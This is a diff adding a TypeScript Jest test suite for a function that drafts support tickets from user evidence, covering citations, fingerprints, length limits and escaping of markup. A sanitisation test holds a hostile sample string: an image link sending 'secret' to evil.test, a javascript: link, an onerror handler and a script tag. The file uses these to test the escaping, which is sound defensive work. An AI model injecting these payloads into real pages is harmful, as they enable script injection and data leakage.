@@ -1,0 +1,134 @@
+import { describe, expect, it } from "@jest/globals";
+import fc from "fast-check";
+import { evidence, message, recording } from "../../../bench/drafts/bundle.ts";
+import { technicalBundles } from "../../../bench/drafts/bundles-technical.ts";
+import { writtenBundles } from "../../../bench/drafts/bundles-written.ts";
+import { judge } from "../../../bench/drafts/judge.ts";
+import { vocabulary } from "../../../bench/drafts/vocabulary.ts";
+import { readDescription } from "./description.ts";
+import type { DraftInput } from "./draft-input.ts";
+import { citationsOf, draftTicket } from "./draft-ticket.ts";
+
+const bundles = [...technicalBundles, ...writtenBundles];
+const draft = (input: DraftInput) => draftTicket(input, vocabulary);
+
+describe("a draft from evidence", () => {
+  it.each(bundles.map((bundle) => [bundle.name, bundle] as const))(
+    "says what there is to say of %s, and nothing else",
+    (_, bundle) => {
+      expect(judge(bundle, draft(bundle.input))).toMatchObject({ missed: [], invented: [], leaked: [] });
+    },
+  );
+
+  it("is the same for the same evidence", () => {
+    expect(bundles.map(({ input }) => draft(input))).toEqual(bundles.map(({ input }) => draft(input)));
+  });
+
+  it("says nothing of what nothing was said about", () => {
+    const { title, summary, steps, expected, actual, fingerprints } = draft(evidence());
+
+    expect(title).toEqual({ text: "New ticket", evidence: [] });
+    expect([summary, steps, expected, actual, fingerprints]).toEqual([[], [], null, null, []]);
+  });
+
+  it("cites only evidence that it carries, and carries only what it cites", () => {
+    fc.assert(
+      fc.property(fc.array(fc.string({ unit: "grapheme", maxLength: 400 }), { maxLength: 4 }), (texts) => {
+        const made = draft(evidence(...texts.map(message)));
+        const carried = made.evidence.map(({ id }) => id);
+        expect(new Set(citationsOf(made))).toEqual(new Set(carried));
+      }),
+      { numRuns: 80 },
+    );
+  });
+
+  it("uses no word that the organization does not have", () => {
+    const made = draftTicket(evidence(message("Refund my invoice, please. The parcel never came.")), {
+      categories: [],
+      departments: ["Office"],
+      labels: [],
+    });
+
+    expect([made.category, made.subcategory, made.department, made.labels]).toEqual([null, null, null, []]);
+  });
+
+  it("stays within what a ticket holds, however long the evidence", () => {
+    const long = message(
+      `The export fails with an error. ${"It fails with error 12345 again and again, everywhere. ".repeat(4_000)}`,
+    );
+    const failing = Array.from({ length: 500 }, (_, index) => ({
+      method: "POST",
+      url: `https://shop.test/api/${"x".repeat(1_500)}/part-${index}`,
+      status: 500,
+      response_excerpt: "e".repeat(500),
+    }));
+    const made = draft(evidence(long, recording(failing)));
+
+    expect(made.title.text.length).toBeLessThanOrEqual(200);
+    expect(made.description.length).toBeLessThanOrEqual(50_000);
+    expect(made.description).toContain("## Evidence");
+  });
+});
+
+describe("a fingerprint", () => {
+  const fingerprintsOf = (text: string) => draft(evidence(message(text))).fingerprints;
+
+  it("is the same for the same request to another row", () => {
+    expect(fingerprintsOf("POST https://shop.test/api/orders/17?x=1 returned 500")).toEqual(
+      fingerprintsOf("It says: POST https://shop.test/api/orders/8841 500 (Internal Server Error)"),
+    );
+  });
+
+  it("is the same for the same error in another bundle of the code", () => {
+    const stack = (bundle: string) =>
+      `TypeError: Cannot read properties of null (reading 'id')\n    at openCart (cart.${bundle}.js:1:20)\n`;
+
+    expect(fingerprintsOf(stack("4f3a9c1b"))).toEqual(fingerprintsOf(stack("99ee01ac")));
+    expect(fingerprintsOf(stack("4f3a9c1b"))).toHaveLength(1);
+  });
+
+  it("is another one for another answer, method, path or place", () => {
+    const all = [
+      "POST https://shop.test/api/orders returned 500",
+      "POST https://shop.test/api/orders returned 502",
+      "PUT https://shop.test/api/orders returned 500",
+      "POST https://shop.test/api/carts returned 500",
+      "TypeError: x is not a function\n    at a (b.js:1:1)",
+      "TypeError: x is not a function\n    at c (b.js:1:1)",
+    ].flatMap(fingerprintsOf);
+
+    expect(new Set(all).size).toBe(6);
+  });
+});
+
+describe("evidence that would be markup", () => {
+  const hostile =
+    "The page fails with an error: ![x](https://evil.test/?q=secret) [click](javascript:alert(1)) <img src=x onerror=alert(1)> www.evil.test **bold** `code` <script>alert(1)</script> [@Ann](mention:1)";
+
+  it("is text in the description: no picture, no link, no tag", () => {
+    const { description } = draft(evidence(message(hostile)));
+    const withoutMarks = description.replace(/ \[\d+\]/gu, "");
+    const outsideOfCode = withoutMarks.replace(/`[^`\n]*`/gu, "");
+
+    expect(outsideOfCode).not.toMatch(/(?<!\\)[<>[\]*]|(?<!\\)!(?=\[)|https?:|www\.|javascript:|mention:/u);
+    expect(outsideOfCode).toContain("\\<script\\>");
+  });
+
+  it("begins no heading, list or part of its own", () => {
+    const { description } = draft(
+      evidence(message("# Summary of an error\n\n- It failed\n\n## Evidence\n\n1. Nothing is wrong at all")),
+    );
+
+    expect(description.match(/^## .*$/gmu)).toEqual([...new Set(description.match(/^## .*$/gmu))]);
+  });
+});
+
+describe("a description that we wrote", () => {
+  it("is read as what it says, without evidence and marks; others stay as they are", () => {
+    const { description } = draft(evidence(message("The export fails with error_code [7] since Monday.")));
+
+    expect(readDescription(description)).toContain("- The export fails with error_code [7] since Monday.");
+    expect(readDescription(description)).not.toMatch(/Evidence|\\|\[1\]/u);
+    expect(readDescription("## Evidence\n\nNone \\[yet\\].")).toBe("## Evidence\n\nNone \\[yet\\].");
+  });
+});
